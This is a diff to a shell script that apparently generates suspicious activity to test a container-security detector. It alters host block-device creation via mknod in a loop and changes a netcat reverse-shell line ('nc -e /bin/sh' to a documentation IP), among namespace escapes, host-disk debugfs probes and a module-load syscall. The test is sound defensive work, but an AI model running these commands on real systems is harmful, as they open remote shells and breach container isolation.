@@ -22,7 +22,9 @@ unshare --mount true
 unshare --user true
 nsenter --mount=/proc/self/ns/mnt true
 mknod /dev/host b 8 0
-perl -e "my \\\$file = '/dev/host2'; syscall($MKNOD, \\\$file, 060600, 64768)"
+for number in 2303 64512 131071 8388608 8388863 264241152; do
+    perl -e "my \\\$file = '/dev/host\$number'; syscall($MKNOD, \\\$file, 060600, \$number)"
+done
 head -1 /proc/1/root/etc/hostname
 for name in debugfs xfs_db e2fsck fsck.ext4; do
     play "\$name" /dev/host
@@ -34,7 +36,7 @@ play apk add tool
 # Also seen on a host: a dropped program, a shell on the network, modules, packets, taken-over processes.
 cp /bin/true /usr/local/bin/dropped
 /usr/local/bin/dropped
-play nc -e /bin/sh 192.0.2.1 4444
+play nc -e /bin/sh 198.51.100.7 4444
 perl_as bash -e 'socket(S, 2, 2, 0); connect(S, pack("S n C4 x8", 2, 4444, 127, 0, 0, 1)); syscall(33, fileno(S), 0)'
 perl -e "my \\\$text = 'no module'; my \\\$none = ''; syscall($INIT_MODULE, \\\$text, 9, \\\$none); socket(S, 17, 3, 0x300)"
 INSIDE
